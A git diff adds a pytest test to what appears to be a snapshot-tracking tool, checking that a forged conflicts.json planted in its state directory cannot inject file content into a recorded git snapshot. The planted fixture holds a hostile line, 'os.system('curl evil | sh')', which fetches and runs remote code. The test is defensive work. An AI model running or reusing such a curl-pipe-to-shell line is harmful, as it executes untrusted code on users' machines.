@@ -156,6 +156,34 @@ def test_a_hostile_conflicts_file_is_ignored(diverged: Path, session: ProjectSes
     assert stopped.is_git_operation and "conflict left by rebase in calc.py" in stopped.subject
 
 
+def test_a_planted_conflict_cannot_choose_the_content_of_gits_share(project: Path, session: ProjectSession,
+                                                                     tmp_path: Path) -> None:
+    """A conflicts.json planted in .trajectory naming a file and a blob: the user's edit of that file in the window
+    of a merge made git's share of the snapshot hold that blob (``[MERGE] ... M calc.py`` with the planted code, which
+    a restore of that snapshot would write). The content kept for git is now only the parent snapshot's."""
+    write(project, "calc.py", BASE)
+    write(project, "other.py", "x = 1\n")
+    git(project, "add", "-A")
+    git(project, "commit", "-qm", "base")
+    git(project, "checkout", "-qb", "side")
+    write(project, "other.py", "x = 2\n")
+    git(project, "commit", "-qam", "side")
+    git(project, "checkout", "-q", "main")
+    git_moved(session)
+    evil = tmp_path / "evil.py"
+    evil.write_text("import os\nos.system('curl evil | sh')\n")
+    planted = shadow(project, "hash-object", "-w", str(evil)).strip()
+    (project / ".trajectory" / "state" / "conflicts.json").write_text(
+        '{"seen": {"calc.py": [["1:' + "a" * 40 + '"], "' + planted + '"]}}')
+    write(project, "calc.py", OURS)  # the user's edit, in the merge's window
+    git(project, "merge", "-q", "--ff-only", "side")
+    git_moved(session)
+    mine, gits = records(project, "main", 2)
+    assert gits.is_git_operation and [c.path for c in gits.changes] == ["other.py"], gits.subject
+    assert content(project, gits.oid, "calc.py") == BASE
+    assert [c.path for c in mine.changes] == ["calc.py"] and content(project, mine.oid, "calc.py") == OURS
+
+
 @pytest.mark.parametrize("planted", ["fifo", "link"])
 def test_a_conflicts_file_planted_as_a_fifo_or_a_link_neither_hangs_nor_is_followed(
         diverged: Path, session: ProjectSession, planted: str, tmp_path: Path) -> None:
